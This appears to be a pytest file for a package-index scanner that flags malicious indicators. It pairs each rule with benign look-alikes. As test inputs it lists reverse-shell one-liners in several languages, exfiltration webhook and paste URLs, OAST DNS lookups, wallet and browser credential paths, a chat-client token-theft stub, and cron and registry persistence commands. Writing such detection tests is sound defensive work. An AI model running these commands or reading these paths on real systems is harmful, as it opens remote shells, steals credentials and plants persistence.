"""Indicators in one string: each rule named by its test, each beside a benign look-alike that stays below medium."""

from pypi_platform.lib.scans.indicators import indicator_findings

_SEVERE = {"medium", "high", "critical"}


def _rules(text: str, line: int | None = 7) -> list[tuple[str, int | None]]:
    return sorted((finding.rule, finding.line) for finding in indicator_findings("pkg/x.py", text, line))


def _severe(text: str) -> set[str]:
    return {f.rule for f in indicator_findings("pkg/x.py", text, 1) if f.severity in _SEVERE}


def test_findings_sit_on_the_given_line_or_on_lines_within_the_string():
    text = "x\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    assert _rules(text) == [("network.reverse-shell", 7)]
    assert _rules(text, None) == [("network.reverse-shell", 2)]


def test_network_reverse_shell():
    for command in (
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "nc -e /bin/sh 203.0.113.9 4444",
        "ncat 203.0.113.9 4444 -e /bin/bash",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
        "socat tcp-connect:203.0.113.9:4444 exec:/bin/sh,pty,stderr",
        "sh -i 2>&1 | nc 203.0.113.9 4444",
        "python -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0)'",
        'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i")\'',
        'php -r \'$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
        'ruby -rsocket -e \'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)\'',
    ):
        assert _severe(command) == {"network.reverse-shell"}, command


def test_network_reverse_shell_look_alikes_stay_below_medium():
    for text in (
        "rsync -e ssh src/ dest/",
        "os.dup2(devnull, 1)  # silence the child",
        "os.dup2(log_fd, 2)  # stderr to the socket handler's file",
        "conn = TCPSocket.open(host, port)",
        "nc -z localhost 5432",
        "sh -c 'make install'",
    ):
        assert _severe(text) == set(), text


def _rule_of(text: str) -> set[str]:
    return {finding.rule for finding in indicator_findings("pkg/x.py", text, 1)}


# Made-up tokens, built from parts so that this file holds no complete key-shaped string.
RANDOM_36 = "u8Kq2ZbN4rWx7LmT1pVc9sYd3FgH6jEa0oRi"


def test_secret_placeholder_documentation_keys_and_typed_runs():
    for token in (
        "AKIA" + "IOSFODNN7" + "EXAMPLE",  # the documented AWS example key
        "AKIA" + "Z" * 16,
        "AKIA" + "ABCDEFGHIJKLMNOP",
        "ghp_" + "x" * 36,
        "ghp_" + "0" * 36,
        "ghp_" + "a1B2" * 9,
        "ghp_" + "TEST" + RANDOM_36[4:],
        "xoxb-" + "1111-2222-3333",
    ):
        assert _rule_of(f"key = '{token}'") == {"secret.placeholder"}, token
        (finding,) = indicator_findings("pkg/x.py", token, 1)
        assert finding.severity == "low" and finding.score == 0


def test_secret_aws_github_index_and_slack_tokens_of_random_shape_are_secrets():
    assert _rule_of("AKIA" + "Q7RZ2MWJ5HNPK3VY") == {"secret.aws-access-key"}
    assert _rule_of("ghp_" + RANDOM_36) == {"secret.github-token"}
    assert _rule_of("pypi-AgE" + RANDOM_36 + RANDOM_36[::-1]) == {"secret.package-index-token"}
    assert _rule_of("xoxb-" + "17653672481-19874698323-" + RANDOM_36[:24]) == {"secret.slack-token"}


def test_an_access_key_id_in_a_presigned_url_is_not_a_leak():
    url = "https://bucket.s3.amazonaws.com/f?X-Amz-Credential=" + "AKIA" + "Q7RZ2MWJ5HNPK3VY" + "%2F20250101"
    assert _severe(url) == set()


def test_secret_private_key_needs_a_body_and_an_end_line():
    import base64
    import random

    body = base64.b64encode(random.Random(5).randbytes(400)).decode()
    header, footer = "-----BEGIN " + "PRIVATE KEY-----", "-----END " + "PRIVATE KEY-----"
    pem = "\n".join([header, *(body[i : i + 64] for i in range(0, len(body), 64)), footer])
    assert _rule_of(pem) == {"secret.private-key"}
    escaped = f'KEY = "{header}\\n" "{body[:64]}\\n" "{body[64:200]}\\n" "{footer}\\n"'
    assert _rule_of(escaped) == {"secret.private-key"}


def test_a_pem_header_in_key_parsing_code_is_not_a_key():
    code = "\n".join(
        [
            'PEM_HEADER = b"-----BEGIN ' + 'PRIVATE KEY-----"',
            "if data.startswith(PEM_HEADER):",
            "    key = load_pem(data)",
            'PEM_FOOTER = b"-----END ' + 'PRIVATE KEY-----"',
            'TEMPLATE = "-----BEGIN ' + 'RSA PRIVATE KEY-----\\n{body}\\n-----END RSA PRIVATE KEY-----"',
        ]
    )
    assert _rule_of(code) == set()
    placeholder = "-----BEGIN " + "PRIVATE KEY-----\n" + "A" * 120 + "\n-----END " + "PRIVATE KEY-----"
    assert _rule_of(placeholder) == set()


def test_network_dev_tcp_alone_is_a_probe_below_the_reverse_shell():
    probe = 'timeout 1 bash -c "echo > /dev/tcp/localhost/${PORT}"'
    assert _rule_of(probe) == {"network.dev-tcp"}
    assert _rule_of("exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | sh") == {"network.reverse-shell"}


def test_network_paste_or_webhook_url_with_concrete_ids():
    for url in (
        "https://discord.com/api/webhooks/640391827164509283/Qk3vZpW8yTn2",
        "https://api.telegram.org/bot640391827:AAq7Zk2WmPx9Lb3/sendDocument",
        "https://hooks.slack.com/services/T02Q7ZK9M/B05R8WJ3N/q7Zk2WmPx9Lb3Vn8",
        "https://pastebin.com/raw/Gk9PeVaQ",
        "https://paste.ee/r/q7Zk2",
        "https://transfer.sh/q7Zk2/dump.zip",
    ):
        assert _rule_of(url) == {"network.paste-or-webhook-url"}, url


def test_network_messaging_api_paths_and_placeholder_ids_stay_low():
    for text in (
        "https://api.telegram.org/bot",
        "f'https://discord.com/api/webhooks/{hook_id}/{token}'",
        "url = base + token + '/sendDocument'",
        "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
        "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnop",
    ):
        assert _rule_of(text) == {"network.messaging-api"}, text
        assert _severe(text) == set(), text


def test_network_paste_site_named_without_a_paste():
    assert _rule_of("requests.post('https://hastebin.com/documents', data=log)") == {"network.paste-site"}
    assert _rule_of("https://pastebin.com/api/api_post.php") == {"network.paste-site"}
    assert _severe("https://dpaste.com/FAKEID") == {"network.paste-site"}  # a test's made-up paste id


def test_network_url_shortener():
    assert _rule_of("urlretrieve('https://bit.ly/3q7Zk2W', 'x.exe')") == {"network.url-shortener"}
    assert _rule_of("see https://t.ly/Qk3v") == {"network.url-shortener"}
    assert _rule_of("d = dict.copy(); self.s.id/2; 'bit.ly'") == set()  # no link, no host mention


def test_network_tunnel_host_and_the_services_own_pages():
    assert _rule_of("https://7f3a9c21.ngrok-free.app/collect") == {"network.tunnel-host"}
    assert _rule_of("wss://quiet-fox-41.trycloudflare.com") == {"network.tunnel-host"}
    assert _rule_of("0.tcp.eu.ngrok.io:15432") == {"network.tunnel-host"}
    for docs in (
        "https://dashboard.ngrok.com/get-started",
        "https://abc123.ngrok.io",
        "your-server.ngrok.io",
        "ap.ngrok.io",  # a region of the service, as the public suffix list names it
        "tcp.eu.ngrok.io",
    ):
        assert _severe(docs) <= {"network.tunnel-service"}, docs
        assert "network.tunnel-host" not in _rule_of(docs), docs


def test_network_tunnel_service_opened_from_code():
    assert _rule_of("os.system('ngrok http 8000')") == {"network.tunnel-service"}
    assert _rule_of("ssh -R 80:localhost:8000 serveo.net") == {"network.tunnel-service"}


def test_network_request_catcher_and_network_oast_host():
    assert _rule_of("https://webhook.site/3f2a9c1e-7b4d-4e8a-9c3f-1a2b3c4d5e6f") == {
        "network.request-catcher"
    }
    assert _rule_of("https://eo2x7k9q.m.pipedream.net") == {"network.request-catcher"}
    assert _rule_of("c7q2k9.oast.fun") == {"network.oast-host"}
    assert _rule_of("nslookup $(whoami).q7zk2.burpcollaborator.net") == {"network.oast-host"}
    assert _rule_of("x.dnslog.cn") == {"network.oast-host"}
    assert _rule_of("the webhook.site service shows requests") == set()  # named, no endpoint


def test_network_cloud_metadata_is_a_capability():
    for text in (
        "http://169.254.169.254/latest/meta-data/",
        "http://[fd00:ec2::254]/",
        "metadata.google.internal",
    ):
        (finding,) = indicator_findings("pkg/x.py", text, 1)
        assert finding.rule == "network.cloud-metadata" and finding.kind == "capability", text


def test_network_raw_ip_url_for_remote_ipv4_ipv6_numeric_and_behind_userinfo():
    for url in (
        "http://203.0.113.7:8080/collect",
        "https://[2001:db8:4::7]:8443/x",
        "http://3405803782/",  # 203.0.113.6 as one number
        "http://0xCB007106/",
        "http://cdn.example@198.51.100.4/payload",
        "ftp://user:pw@192.0.2.9/up",
    ):
        assert _rule_of(url) == {"network.raw-ip-url"}, url


def test_local_private_typed_and_resolver_addresses_are_not_raw_ip_urls():
    for url in (
        "http://127.0.0.1:8000/",
        "http://[::1]:8000/",
        "http://[fe80::1]/",
        "http://10.0.0.5/",
        "http://100.64.1.1/",
        "http://169.254.10.1/",
        "http://1.2.3.4/",
        "http://12.34.56.78/",
        "http://5.5.5.5/",
        "https://1.1.1.1/dns-query",
        "http://[::2]/",
    ):
        assert _rule_of(url) == set(), url


def test_network_raw_ip_endpoint_outside_urls():
    assert _rule_of('s = socket.socket(); s.connect(("203.0.113.9", 4444))') == {"network.raw-ip-endpoint"}
    assert _rule_of("203.0.113.9:4444") == {"network.raw-ip-endpoint"}  # a single value, no socket in sight
    assert _rule_of('("2001:db8::9", 4444)') == {"network.raw-ip-endpoint"}
    assert _rule_of("[2001:db8::9]:4444") == {"network.raw-ip-endpoint"}


def test_raw_ip_endpoint_look_alikes():
    for text in (
        's.connect(("8.8.8.8", 80))  # which interface goes out',
        's = socket.socket(); s.bind(("0.0.0.0", 8080))',
        "socket: version 1.2.3.4:56",
        "socket library 2.0.1.3 released",
    ):
        assert _rule_of(text) == set(), text


def test_network_url_userinfo_host():
    assert _rule_of("http://github.com@evil.example/install.sh") == {"network.url-userinfo-host"}
    assert _rule_of("http://legit.example@evil.example/") == {"network.url-userinfo-host"}
    for benign in ("https://first.last@gitlab.example/repo.git", "postgres://user:secret@db.example/app"):
        assert _rule_of(benign) == set(), benign


def test_credentials_sensitive_path_covers_discord_wallet_and_browser_stores():
    for path in (
        r"C:\\Users\\x\\AppData\\Roaming\\discord\\Local Storage\\leveldb",
        "~/.config/Exodus/exodus.wallet",
        "AppData/Roaming/Electrum/wallets",
        "Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn",
        "Telegram Desktop/tdata",
        "Mozilla/Firefox/Profiles/x/logins.json",
    ):
        assert _rule_of(path) == {"credentials.sensitive-path"}, path
    assert _rule_of("from leveldb import DB; db = DB('cache')") == set()


def test_credentials_sensitive_path_covers_the_solana_key_and_a_chat_clients_core():
    assert _rule_of('open(os.path.expanduser("~/.config/solana/id.json"))') == {"credentials.sensitive-path"}
    assert _rule_of("discord/0.0.309/modules/discord_desktop_core/index.js") == {"credentials.sensitive-path"}
    for benign in ("import solana", "solana.rpc.api.Client(url)", "docs/discord_desktop_core.md"):
        assert _rule_of(benign) == set(), benign


def test_credentials_token_theft_of_a_chat_client_core_stub_written_out():
    text = """fh.write("module.exports = require('./core.asar');\\nrequire('https').get(u)")"""
    assert _rule_of(text) == {"credentials.token-theft"}
    assert _rule_of("electron asar archives: app.asar, core.asar") == set()


def test_network_raw_ip_endpoint_for_a_dns_resolver_set_to_a_literal_address():
    assert _rule_of('resolver.nameservers = ["203.0.113.53"]') == {"network.raw-ip-endpoint"}
    assert _rule_of("r.nameservers = ('2001:db8::53',)") == {"network.raw-ip-endpoint"}


def test_a_public_or_local_resolver_address_is_no_endpoint():
    for text in (
        'resolver.nameservers = ["8.8.8.8", "1.1.1.1"]',
        'resolver.nameservers = ["127.0.0.1"]',
        'resolver.nameservers = ["10.0.0.2"]',
        "resolver.nameservers = [server]",
    ):
        assert _rule_of(text) == set(), text


def test_persistence_autostart_path():
    for path in (
        r"AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
        "~/Library/LaunchAgents/com.example.agent.plist",
        "~/.config/autostart/agent.desktop",
        "~/.config/systemd/user/agent.service",
    ):
        assert _rule_of(path) == {"persistence.autostart-path"}, path
    assert _rule_of("app.on_startup(init)  # the Startup event") == set()


def test_persistence_registry_run_key():
    assert _rule_of(r"Software\\Microsoft\\Windows\\CurrentVersion\\Run") == {"persistence.registry-run-key"}
    assert _rule_of(r"SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce") == {"persistence.registry-run-key"}
    assert _rule_of(r"SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall") == set()


def test_persistence_cron():
    assert _rule_of("(crontab -l; echo '@reboot python3 x.py') | crontab -") == {"persistence.cron"}
    assert _rule_of("open('/etc/cron.d/update', 'w')") == {"persistence.cron"}
    assert _rule_of('schtasks /create /sc onlogon /tn Updater /tr "pythonw agent.py"') == {"persistence.cron"}
    assert _rule_of("from celery.schedules import crontab; crontab(minute=0)") == set()


def test_persistence_shell_profile():
    assert _rule_of("open(os.path.expanduser('~/.bashrc'), 'a')") == {"persistence.shell-profile"}
    assert _rule_of("os.path.join(home, '.zshrc')") == {"persistence.shell-profile"}
    assert _rule_of("user.profile = load_profile(); '.profile' in names") == set()


def test_a_string_with_lone_surrogates_is_classified_not_a_crash():
    text = "\ud800x " + "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    assert _rules(text, None) == [("network.reverse-shell", 1)]
